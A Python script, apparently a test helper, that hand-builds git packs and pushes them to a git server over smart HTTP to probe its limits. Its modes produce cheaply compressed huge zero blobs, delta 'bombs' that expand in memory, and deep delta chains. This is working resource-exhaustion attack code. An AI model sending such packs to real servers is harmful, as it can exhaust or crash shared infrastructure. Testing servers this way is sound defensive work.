#!/usr/bin/env python3
"""gitpack.py: a git push made by hand, as an attacker would write one (t0849-write-spool).

    gitpack.py URL TOKEN REPO MODE [ARGS...]

Reads REPO's refs (GET info/refs?service=git-receive-pack, Basic credentials with TOKEN), builds a
commit on top of its main with the files MODE says, writes the pack itself and POSTs it to
git-receive-pack, as git does (report-status, side-band-64k). Modes:

    zeros N             one file of N zero bytes (its pack is N / 1000 bytes)
    delta BASE OUT      a file of BASE zero bytes and a file of OUT zero bytes written as a delta of the
                        first (copies of it): git must make OUT bytes in memory to read it
    chain SIZE DEPTH    DEPTH files of SIZE bytes, each a delta of the one before that changes one byte

Prints the mirror's words (band 2: the "remote:" lines git shows), then the report ("unpack ok", "ok
REF" or "ng REF why"), then "http STATUS". Exits 0 when the push was taken, 1 when refused, 2 when the
mirror answered no report at all.
"""
import base64
import hashlib
import sys
import urllib.error
import urllib.request
import zlib

ZERO_ID = "0" * 40


def pkt(data):
    if isinstance(data, str):
        data = data.encode()
    return b"%04x" % (len(data) + 4) + data


def read_pkts(data):
    out, i = [], 0
    while i + 4 <= len(data):
        n = int(data[i:i + 4], 16)
        if n == 0:
            out.append(None)
            i += 4
            continue
        out.append(data[i + 4:i + n])
        i += n
    return out


def obj_id(kind, body_len, chunks):
    h = hashlib.sha1(b"%s %d\0" % (kind, body_len))
    for c in chunks:
        h.update(c)
    return h.hexdigest()


def zeros_id(n):
    h = hashlib.sha1(b"blob %d\0" % n)
    z = bytes(min(n, 64 << 20))
    left = n
    while left:
        k = min(left, len(z))
        h.update(z[:k])
        left -= k
    return h.hexdigest()


def deflated_zeros(n):
    """zlib of n zero bytes, made without compressing them all: a block of 64 MiB closed by a full
    flush deflates the same whatever came before, so the stream is that block repeated."""
    chunk = 64 << 20
    c = zlib.compressobj(9)
    if n < chunk:
        return c.compress(bytes(n)) + c.flush()
    first = c.compress(bytes(chunk)) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(bytes(chunk)) + c.flush(zlib.Z_FULL_FLUSH)
    k, rest = divmod(n, chunk)
    tail = zlib.compressobj(9)
    last = tail.compress(bytes(rest)) + tail.flush(zlib.Z_FULL_FLUSH) if rest else b""
    # the last block's raw deflate (no header: it continues the stream), then an empty final block
    # and the Adler-32 of n zeros
    adler = ((n % 65521) << 16) | 1
    return first + again * (k - 1) + last[2:] + b"\x03\x00" + adler.to_bytes(4, "big")


def obj_header(kind, size):
    c = (kind << 4) | (size & 15)
    size >>= 4
    out = bytearray()
    while size:
        out.append(c | 0x80)
        c = size & 0x7F
        size >>= 7
    out.append(c)
    return bytes(out)


def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def copy_op(off, size):
    op, args = 0x80, bytearray()
    for i in range(4):
        if (off >> (8 * i)) & 0xFF:
            op |= 1 << i
            args.append((off >> (8 * i)) & 0xFF)
    size = 0 if size == 0x10000 else size
    for i in range(3):
        if (size >> (8 * i)) & 0xFF:
            op |= 1 << (4 + i)
            args.append((size >> (8 * i)) & 0xFF)
    return bytes([op]) + bytes(args)


def copies(off, size):
    out = bytearray()
    while size:
        k = min(size, 0xFFFFFF)
        out += copy_op(off, k)
        off += k
        size -= k
    return bytes(out)


class Pack:
    def __init__(self):
        self.objs = []

    def add(self, kind, raw_len, deflated):
        self.objs.append(obj_header(kind, raw_len) + deflated)

    def add_plain(self, kind, body):
        self.add({b"commit": 1, b"tree": 2, b"blob": 3}[kind], len(body), zlib.compress(body))
        return obj_id(kind, len(body), [body])

    def add_ref_delta(self, base_id, delta):
        self.objs.append(obj_header(7, len(delta)) + bytes.fromhex(base_id) + zlib.compress(delta, 9))

    def bytes(self):
        data = b"PACK" + (2).to_bytes(4, "big") + len(self.objs).to_bytes(4, "big") + b"".join(self.objs)
        return data + hashlib.sha1(data).digest()


def tree_of(files):
    """files: {name: blob id}, one folder"""
    return b"".join(b"100644 %s\0%s" % (n.encode(), bytes.fromhex(i)) for n, i in sorted(files.items()))


def main():
    url, token, repo, mode, args = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5:]
    auth = "Basic " + base64.b64encode(("user:" + token).encode()).decode()
    req = urllib.request.Request(f"{url}/{repo}.git/info/refs?service=git-receive-pack", headers={"Authorization": auth})
    refs = read_pkts(urllib.request.urlopen(req).read())
    main_id = None
    for p in refs:
        if p and p[:40] != b"0" * 40 and p.rstrip(b"\n").split(b"\0")[0].endswith(b" refs/heads/main"):
            main_id = p[:40].decode()
    if not main_id:
        print("no main in", refs)
        return 2
    pack, files = Pack(), {}
    if mode == "zeros":
        n = int(args[0])
        files["zeros.dat"] = zeros_id(n)
        pack.add(3, n, deflated_zeros(n))
    elif mode == "delta":
        base, out = int(args[0]), int(args[1])
        files["base.dat"] = zeros_id(base)
        pack.add(3, base, deflated_zeros(base))
        files["big.dat"] = zeros_id(out)
        k, rest = divmod(out, base)
        pack.add_ref_delta(files["base.dat"], varint(base) + varint(out) + copies(0, base) * k + copies(0, rest))
    elif mode == "chain":
        size, depth = int(args[0]), int(args[1])
        cur = bytearray(size)
        prev = pack.add_plain(b"blob", bytes(cur))
        files["c0000.dat"] = prev
        for i in range(1, depth + 1):
            at = (i * 7919) % size
            cur[at] = (cur[at] + 1) & 0xFF
            delta = varint(size) + varint(size) + (copies(0, at) if at else b"") + bytes([1, cur[at]])
            if at + 1 < size:
                delta += copies(at + 1, size - at - 1)
            pack.add_ref_delta(prev, delta)
            prev = obj_id(b"blob", size, [bytes(cur)])
            files["c%04d.dat" % i] = prev
    else:
        print("unknown mode", mode)
        return 2
    tree = pack.add_plain(b"tree", tree_of(files))
    who = b"Mallory <m@example.com> 1700000000 +0000"
    commit = pack.add_plain(b"commit", b"tree %s\nparent %s\nauthor %s\ncommitter %s\n\n%s\n" %
                            (tree.encode(), main_id.encode(), who, who, mode.encode()))
    body = pkt(f"{main_id} {commit} refs/heads/main\0report-status side-band-64k quiet agent=gitpack\n") + b"0000" + pack.bytes()
    req = urllib.request.Request(f"{url}/{repo}.git/git-receive-pack", data=body, method="POST", headers={
        "Authorization": auth, "Content-Type": "application/x-git-receive-pack-request",
        "Accept": "application/x-git-receive-pack-result"})
    try:
        with urllib.request.urlopen(req, timeout=600) as r:
            status, answer = r.status, r.read()
    except urllib.error.HTTPError as e:
        status, answer = e.code, e.read()
    report, words = b"", b""
    for p in read_pkts(answer):
        if p and p[:1] == b"\1":
            report += p[1:]
        elif p and p[:1] in (b"\2", b"\3"):
            words += p[1:]
    for line in words.decode(errors="replace").replace("\r", "\n").splitlines():
        if line.strip():
            print("remote:", line)
    lines = [p.decode(errors="replace").rstrip("\n") for p in read_pkts(report) if p]
    for line in lines:
        print(line)
    if status != 200:
        print(answer[:300].decode(errors="replace"))
    print("http", status)
    if not lines:
        return 2
    return 0 if lines[0] == "unpack ok" and all(line.startswith("ok ") for line in lines[1:]) else 1


if __name__ == "__main__":
    sys.exit(main())
